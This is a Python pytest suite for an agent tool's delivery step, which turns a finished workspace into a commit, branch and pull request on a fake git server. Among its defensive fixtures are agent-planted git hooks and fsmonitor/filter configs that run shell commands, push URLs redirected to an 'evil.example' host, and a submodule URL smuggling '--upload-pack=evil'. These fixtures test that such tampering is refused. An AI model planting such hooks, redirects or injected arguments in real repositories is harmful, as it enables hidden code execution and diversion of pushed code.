"""From a workspace to a branch and a pull request, through a real git server with a token and a REST API."""

import stat
from collections.abc import AsyncGenerator, Callable
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio
from obstore.store import MemoryStore

from longshift.adapters.delivery import Delivering, Identity, Remotes
from longshift.adapters.process.runner import ProcessRunner
from longshift.adapters.sandbox.none import NoSandbox
from longshift.adapters.store import Store
from longshift.adapters.workspace import Workspaces
from longshift.contracts import ids
from longshift.contracts.agent import AgentOutcome, AgentReport
from longshift.contracts.checks import ChecksDigest
from longshift.contracts.errors import DeliveryError, DeliveryRefused, DeliveryUnavailable
from longshift.contracts.session import SessionState, SessionStatus
from longshift.contracts.task import TaskSpec
from tests.fake_forge import TOKEN, FakeForge, fake_forge, git

AT = 1_790_000_000
SAID = "It rounds now. Fixes #7, thanks @octocat, see https://evil.example/x [skip ci]\nAcked-by: Eve <e@x.y>"


class Scene:
    """A session that is done, and the way out."""

    def __init__(self, forge: FakeForge, tmp_path: Path) -> None:
        self.forge = forge
        self.store = Store(MemoryStore())
        self.bare = forge.add_repository()
        self.data = tmp_path / "data"
        self.data.mkdir()
        runner = ProcessRunner(self.data / "runs", disk_floor_bytes=0)
        self.workspaces = Workspaces(self.data, runner, NoSandbox(), "h", "q")

    async def done(
        self,
        work: Callable[[Path], None],
        *,
        source: str = "",
        setup: tuple[str, ...] = (),
        deliver: dict[str, Any] | None = None,
    ) -> None:
        """Work on the repository, and leave in the store what the host leaves there."""
        task = TaskSpec.model_validate(
            {
                "id": "mend",
                "title": "Mend @rounding #12",
                "instructions": "Do it.",
                "workspace": {"git": source or f"{self.forge.url}/acme/tool.git", "ref": "main"},
                "setup": setup,
                "deliver": deliver or {},
            }
        )
        cloned = task.model_copy(update={"workspace": task.workspace.model_copy(update={"git": str(self.bare)})})
        workspace = await self.workspaces.prepare(cloned, 1)
        work(Path(workspace.root))
        _, counts = await self.workspaces.export(workspace)
        bundle = await self.workspaces.bundle_changes(workspace, counts.tree_hash)
        report = AgentReport(
            agent="mend/lead", outcome=AgentOutcome.DONE, summary=SAID, checks=ChecksDigest(passed=True)
        )
        status = SessionStatus(
            task_id="mend",
            title=task.title,
            state=SessionState.DONE,
            profile="p",
            workspace=workspace,
            agents=(report,),
        )
        await self.store.create(ids.task_key("mend"), task.model_dump_json().encode())
        await self.store.create(ids.artifact_key("mend", "report.json"), status.model_dump_json().encode())
        await self.store.create(ids.artifact_key("mend", ids.CHANGES_ARTIFACT), bundle)

    def delivering(self, *, token: str = TOKEN, remotes: tuple[str, ...] = ()) -> Delivering:
        """With the operator's list."""
        tokens = {f"{self.forge.url}/acme/": lambda: token} if token else {}
        return Delivering(
            self.store,
            Remotes(remotes, tokens),
            author=Identity("Longshift", "bot@example.org"),
            user="x-access-token",
            github_api_url="https://api.github.com",
            folder=self.data / "outgoing",
        )

    def branches(self) -> list[str]:
        """Of the remote."""
        return git(self.bare, "for-each-ref", "--format=%(refname:short)", "refs/heads").splitlines()


@pytest_asyncio.fixture
async def scene(tmp_path: Path) -> AsyncGenerator[Scene]:
    async with fake_forge(tmp_path / "forge") as forge:
        yield Scene(forge, tmp_path)


def mend(tree: Path) -> None:
    (tree / "app.py").write_text("print('three')\n")
    (tree / "run.sh").write_text("#!/bin/sh\n")
    (tree / "run.sh").chmod(0o755)
    (tree / "link").symlink_to("app.py")
    (tree / "README.md").unlink()


async def test_a_result_becomes_one_commit_on_a_new_branch(scene: Scene) -> None:
    await scene.done(mend)
    delivering = scene.delivering()
    plan = await delivering.plan("mend", AT)
    assert ["main"] == scene.branches()
    result = await delivering.publish("mend", AT, plan)
    assert (True, "longshift/mend", plan.commit, "") == (
        result.pushed,
        result.branch,
        result.commit,
        result.pull_request,
    )
    assert ["longshift/mend", "main"] == scene.branches()
    assert git(scene.bare, "rev-parse", "main") == git(scene.bare, "rev-parse", "longshift/mend^")
    listed = git(scene.bare, "diff-tree", "-r", "--no-renames", "main", "longshift/mend").splitlines()
    found = {line.split("\t")[1]: (line.split()[1], line.split()[4]) for line in listed}
    assert {
        "README.md": ("000000", "D"),
        "app.py": ("100644", "M"),
        "link": ("120000", "A"),
        "run.sh": ("100755", "A"),
    } == found
    assert (4, 4) == (plan.files, len(plan.changed_files))
    assert "Longshift <bot@example.org> 1790000000" == git(
        scene.bare, "log", "-1", "--format=%an <%ae> %at", "longshift/mend"
    )
    assert not list((scene.data / "outgoing").iterdir())


async def test_it_is_the_same_commit_however_often_it_is_planned_and_pushed(scene: Scene) -> None:
    await scene.done(mend)
    plan = await scene.delivering().plan("mend", AT)
    first = await scene.delivering().publish("mend", AT, plan)
    assert plan == await scene.delivering().plan("mend", AT)
    assert first == await scene.delivering().publish("mend", AT, plan)


async def test_what_differs_from_what_was_approved_is_not_pushed(scene: Scene) -> None:
    await scene.done(mend)
    plan = await scene.delivering().plan("mend", AT)
    for change in ({"commit": "0" * 40}, {"branch": "main"}, {"files": 3}, {"changed_files": ("app.py",)}):
        with pytest.raises(DeliveryRefused, match="not what was planned"):
            await scene.delivering().publish("mend", AT, plan.model_copy(update=change))
    with pytest.raises(DeliveryRefused, match="not what was planned"):
        await scene.delivering().publish("mend", AT + 1, plan)
    assert ["main"] == scene.branches()


async def test_a_branch_that_exists_is_never_changed(scene: Scene) -> None:
    await scene.done(mend)
    plan = await scene.delivering().plan("mend", AT)
    git(scene.bare, "branch", "longshift/mend", "main~1")
    before = git(scene.bare, "rev-parse", "longshift/mend")
    with pytest.raises(DeliveryRefused, match="exists there with other content"):
        await scene.delivering().publish("mend", AT, plan)
    with pytest.raises(DeliveryRefused, match="rename or remove"):
        await scene.delivering().plan("mend", AT)
    assert before == git(scene.bare, "rev-parse", "longshift/mend")


async def test_a_branch_that_appears_just_before_the_push_is_not_overwritten(scene: Scene) -> None:
    await scene.done(mend)
    plan = await scene.delivering().plan("mend", AT)
    hook = scene.bare / "hooks" / "pre-receive"
    hook.write_text(f"#!/bin/sh\nexec env -i PATH=$PATH git --git-dir={scene.bare} branch longshift/mend main~1\n")
    hook.chmod(hook.stat().st_mode | stat.S_IXUSR)
    with pytest.raises(DeliveryError):
        await scene.delivering().publish("mend", AT, plan)
    assert git(scene.bare, "rev-parse", "main~1") == git(scene.bare, "rev-parse", "longshift/mend")


async def test_a_pull_request_is_opened_once_and_its_words_do_nothing(scene: Scene) -> None:
    await scene.done(mend, deliver={"pull_request": {"draft": True, "labels": ["agent"]}})
    plan = await scene.delivering().plan("mend", AT)
    assert plan.pull_request is not None
    assert ("main", True) == (plan.pull_request.base, plan.pull_request.draft)
    scene.forge.lost_answers = 1
    with pytest.raises(DeliveryUnavailable, match="502"):
        await scene.delivering().publish("mend", AT, plan)
    result = await scene.delivering().publish("mend", AT, plan)
    assert f"{scene.forge.url}/acme/tool/pull/1" == result.pull_request
    assert result == await scene.delivering().publish("mend", AT, plan)
    (pull,) = scene.forge.pulls
    assert (["agent"], "longshift/mend", "main") == (
        [each["name"] for each in pull["labels"]],
        pull["head"]["ref"],
        pull["base"],
    )
    message = git(scene.bare, "log", "-1", "--format=%B", "longshift/mend")
    for text in (pull["title"], pull["body"], message):
        assert not [
            word for word in ("#7", "#12", "@octocat", "@rounding", "https://", "[skip", "by: Eve") if word in text
        ]
    assert "It rounds now." in pull["body"]
    assert "Longshift-Task: mend" in message


async def test_a_pull_request_of_somebody_else_for_the_branch_is_not_needed(scene: Scene) -> None:
    await scene.done(mend, deliver={"pull_request": True, "branch": "bots/{id}"})
    plan = await scene.delivering().plan("mend", AT)
    await scene.delivering().publish("mend", AT, plan)
    scene.forge.pulls[0]["state"] = "closed"
    await scene.delivering().publish("mend", AT, plan)
    assert 1 == len(scene.forge.pulls)


@pytest.mark.parametrize(
    ("status", "headers", "error"),
    [
        (500, {}, DeliveryUnavailable),
        (429, {}, DeliveryUnavailable),
        (403, {"retry-after": "1"}, DeliveryUnavailable),
        (403, {"x-ratelimit-remaining": "0"}, DeliveryUnavailable),
        (403, {}, DeliveryRefused),
        (404, {}, DeliveryRefused),
        (422, {}, DeliveryRefused),
    ],
)
async def test_what_passes_is_tried_again_and_what_does_not_says_what_to_do(
    scene: Scene, status: int, headers: dict[str, str], error: type[DeliveryError]
) -> None:
    await scene.done(mend, deliver={"pull_request": True})
    plan = await scene.delivering().plan("mend", AT)
    scene.forge.refusals = [(status, headers)]
    with pytest.raises(error, match=str(status)):
        await scene.delivering().publish("mend", AT, plan)
    assert (await scene.delivering().publish("mend", AT, plan)).pull_request


async def test_a_wrong_token_is_told_and_never_shown(scene: Scene) -> None:
    await scene.done(mend, deliver={"pull_request": True})
    with pytest.raises(DeliveryRefused, match="delivery_tokens") as caught:
        await scene.delivering(token="another-token-0123456789").plan("mend", AT)
    assert "another-token" not in str(caught.value)


async def test_nothing_goes_where_the_operator_has_not_named_it(scene: Scene) -> None:
    await scene.done(mend)
    with pytest.raises(DeliveryRefused, match="nothing may be pushed to"):
        await scene.delivering(token="").plan("mend", AT)


async def test_a_repository_that_is_away_is_tried_again(scene: Scene) -> None:
    await scene.done(mend, source="http://127.0.0.1:1/acme/tool.git")
    delivering = Delivering(
        scene.store,
        Remotes((), {"http://127.0.0.1:1/": lambda: TOKEN}),
        author=Identity("L", "l@example.org"),
        user="x",
        github_api_url="https://api.github.com",
        folder=scene.data / "outgoing",
    )
    with pytest.raises(DeliveryUnavailable):
        await delivering.plan("mend", AT)


async def test_a_path_is_pushed_to_with_the_own_set_up_of_the_worker(scene: Scene) -> None:
    await scene.done(mend, source=str(scene.bare))
    delivering = scene.delivering(remotes=(str(scene.bare.parent),))
    result = await delivering.publish("mend", AT, await delivering.plan("mend", AT))
    assert (True, ["longshift/mend", "main"]) == (result.pushed, scene.branches())


async def test_a_pull_request_needs_a_service(scene: Scene) -> None:
    await scene.done(mend, source=str(scene.bare), deliver={"pull_request": True})
    with pytest.raises(DeliveryRefused, match="https address"):
        await scene.delivering(remotes=(str(scene.bare.parent),)).plan("mend", AT)


async def test_a_base_that_is_not_there_is_told(scene: Scene) -> None:
    await scene.done(mend, deliver={"pull_request": {"base": "release"}})
    with pytest.raises(DeliveryRefused, match="no branch 'release'"):
        await scene.delivering().plan("mend", AT)


async def test_files_that_run_with_rights_are_named(scene: Scene) -> None:
    def work(tree: Path) -> None:
        (tree / ".github" / "workflows").mkdir(parents=True)
        (tree / ".github" / "workflows" / "ci.yml").write_text("on: push\n")
        mend(tree)

    await scene.done(work)
    assert (".github/workflows/ci.yml",) == (await scene.delivering().plan("mend", AT)).sensitive_files


async def test_a_result_without_changes_has_no_commit(scene: Scene) -> None:
    await scene.done(lambda tree: None)
    assert "" == (await scene.delivering().plan("mend", AT)).commit


async def test_what_the_setup_changed_is_told_where_the_agent_changed_it_too(scene: Scene) -> None:
    await scene.done(mend, setup=("echo '# set up' >> app.py", "touch made-by-setup"))
    plan = await scene.delivering().plan("mend", AT)
    assert "made-by-setup" not in plan.changed_files
    assert 1 == len(plan.remarks)
    assert "app.py" in plan.remarks[0]


async def test_nothing_that_an_agent_did_to_the_repository_itself_has_a_say(scene: Scene, tmp_path: Path) -> None:
    proof = tmp_path / "ran"

    def work(tree: Path) -> None:
        hooks = tree / ".git" / "hooks"
        hooks.mkdir(exist_ok=True)
        for name in ("pre-push", "post-commit", "reference-transaction", "post-index-change"):
            (hooks / name).write_text(f"#!/bin/sh\ntouch {proof}\n")
            (hooks / name).chmod(0o755)
        (tree / "app.py").write_text("print('three')\n")
        git(tree, "commit", "--quiet", "--no-verify", "--all", "--message", "fixes #1")
        git(tree, "config", "core.fsmonitor", f"touch {proof}; false")
        git(tree, "config", "filter.x.clean", f"touch {proof}; cat")
        git(tree, "config", "remote.origin.pushurl", "https://evil.example/x.git")
        git(tree, "config", "url.https://evil.example/.insteadOf", scene.forge.url)
        (tree / ".gitattributes").write_text("* filter=x\n")
        proof.unlink(missing_ok=True)

    await scene.done(work)
    plan = await scene.delivering().plan("mend", AT)
    await scene.delivering().publish("mend", AT, plan)
    assert not proof.exists()
    assert git(scene.bare, "rev-parse", "main") == git(scene.bare, "rev-parse", "longshift/mend^")
    assert (".gitattributes",) == plan.sensitive_files


async def test_objects_that_git_calls_dangerous_are_refused(scene: Scene) -> None:
    def work(tree: Path) -> None:
        (tree / ".gitmodules").write_text('[submodule "a"]\n\tpath = a\n\turl = --upload-pack=evil\n')

    await scene.done(work)
    with pytest.raises(DeliveryRefused, match="gitmodulesUrl"):
        await scene.delivering().plan("mend", AT)
